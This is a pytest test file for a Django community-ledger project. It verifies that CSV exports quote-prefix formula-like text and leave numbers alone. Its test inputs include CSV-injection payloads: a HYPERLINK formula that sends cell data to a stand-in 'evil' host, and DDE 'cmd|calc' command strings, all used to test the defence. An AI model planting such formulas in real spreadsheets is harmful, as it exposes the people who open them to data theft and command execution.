"""No cell of a CSV we write is a formula a spreadsheet would run; numbers stay numbers."""

import csv
from decimal import Decimal
from types import SimpleNamespace

import numpy as np
import pytest
from django.core.management import call_command

from pomochi.communities.services import household_create
from pomochi.csvcells import csv_cell
from pomochi.ledger.services import event_contribute


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "-",
        "=",
        "+x",
        "-1e5+1",
    ],
)
def test_a_text_that_a_spreadsheet_would_run_gets_a_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("number", [-12.5, 12, 0, Decimal("-0.125"), 1e-05, -3])
def test_numbers_stay_numbers(number):
    assert csv_cell(number) == number


@pytest.mark.parametrize("text", ["-12.5", "12.5", "+3", "-1e-05", "0.000", ".5"])
def test_a_text_that_is_exactly_a_number_is_no_formula_and_stays(text):
    assert csv_cell(text) == text


@pytest.mark.parametrize("text", ["Petrovs", "a = b", "e-mail", "", "Иванов-Петров"])
def test_ordinary_text_is_untouched(text):
    assert csv_cell(text) == text


def test_none_is_an_empty_cell_and_booleans_are_words():
    assert csv_cell(None) == "" and csv_cell(True) == "True"


def read(path):
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def test_the_export_neutralises_names_and_notes_and_keeps_quantities(village, tmp_path):
    v = village
    evil = household_create(
        actor=v.olga, community=v.community, name='=HYPERLINK("http://x","y")', size=1
    )
    event_contribute(
        actor=v.olga,
        household=evil,
        pool=v.granary,
        resource=v.grain,
        quantity=12_500,
        note="@SUM(1+1)",
    )
    call_command("export", community="village", format="csv", viewer="olga", out=str(tmp_path))
    households = read(tmp_path / "households.csv")
    names = {row["name"] for row in households}
    assert '\'=HYPERLINK("http://x","y")' in names and "Petrovs" in names
    (event,) = [row for row in read(tmp_path / "events.csv") if row["action"] == "contribute"]
    assert event["note"] == "'@SUM(1+1)"
    assert event["quantity"] == "12500" and event["amount"] == "12.5"
    assert event["provider_household"].startswith("'=")


def test_the_simulators_timeseries_neutralises_text_and_keeps_negative_numbers(tmp_path):
    from pomochi.sim.charts import write_csv

    series = np.array([-0.5, 0.25])
    results = SimpleNamespace(
        series={"=cmd|calc": {"trust": None}},
        mean=lambda policy, name: series,
        band=lambda policy, name: (series - 1, series + 1),
        scenario=SimpleNamespace(seasons=2),
        runs=3,
    )
    rows = read(write_csv(results, tmp_path))
    assert rows[0]["policy"] == "'=cmd|calc"
    assert rows[0]["mean"] == "-0.5" and rows[0]["low"] == "-1.5"
